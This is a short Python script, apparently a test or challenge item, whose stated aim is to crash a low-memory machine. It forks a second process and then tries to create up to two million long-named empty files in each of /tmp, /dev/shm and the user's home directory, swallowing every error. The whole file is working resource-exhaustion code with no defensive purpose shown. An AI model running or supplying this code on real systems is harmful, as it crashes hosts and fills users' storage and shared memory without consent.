"""Fills the memory with empty files that have long names and attributes, in all folders that it may write to, in two processes."""

wins = "crash"
elsewhere = "a machine with little memory"

# %% after show
import os

os.fork()
for k in range(2_000_000):
    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            os.close(os.open(f"{folder}/{os.getpid()}-{k}{'x' * 230}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
